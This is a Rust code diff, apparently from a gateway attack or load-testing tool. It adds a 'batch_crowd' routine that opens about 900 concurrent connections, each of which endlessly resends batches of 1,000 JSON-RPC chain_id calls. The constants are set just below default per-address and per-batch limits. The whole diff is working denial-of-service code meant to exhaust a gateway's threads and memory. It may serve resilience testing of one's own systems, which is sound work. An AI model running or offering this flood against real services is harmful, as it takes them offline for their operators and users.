@@ -1,6 +1,8 @@
 //! Calls that keep the gateway's threads and memory busy.
 
+use std::convert::Infallible;
 use std::io;
+use std::sync::Arc;
 
 use tokio::io::AsyncWriteExt;
 use tokio::task::JoinSet;
@@ -15,6 +17,11 @@ use crate::run::AttackContext;
 const BATCHES: usize = 60;
 const ENDLESS_CALLS: usize = 64;
 const REVERTING_CALLERS: usize = 16;
+
+/// Less than one address may have by default.
+const CROWD: usize = 900;
+/// As many as a batch may have by default.
+const CROWD_BATCH_CALLS: usize = 1_000;
 
 /// Answers that are asked for so often are kept.
 const KEPT_AFTER: usize = 3;
@@ -50,6 +57,35 @@ pub(super) fn large_reverts(context: AttackContext) -> Running {
         };
         ask_always(&context.attacker, context.options.scaled(REVERTING_CALLERS), body).await;
     })
+}
+
+pub(super) fn batch_crowd(context: AttackContext) -> Running {
+    Box::pin(async move {
+        let batch = format!("[{}]", vec![calls::chain_id(); CROWD_BATCH_CALLS].join(","));
+        let request = Arc::new(http1::post(&path(), "", batch.as_bytes()));
+        let mut crowd = JoinSet::new();
+        for _ in 0..context.options.scaled(CROWD) {
+            let (attacker, request) = (context.attacker.clone(), Arc::clone(&request));
+            crowd.spawn(async move {
+                loop {
+                    // A connection that is lost is opened again.
+                    let _lost = send_always(&attacker, &request).await;
+                    sleep(PAUSE).await;
+                }
+            });
+        }
+        crowd.join_all().await;
+    })
+}
+
+/// Sends the same request over one connection until that ends.
+async fn send_always(attacker: &Attacker, request: &[u8]) -> io::Result<Infallible> {
+    let mut connection = attacker.connect().await?;
+    loop {
+        connection.stream.write_all(request).await?;
+        http1::read_reply(&mut connection.stream).await?;
+        attacker.count_request();
+    }
 }
 
 /// Keeps so many requests under way, each different from all others.
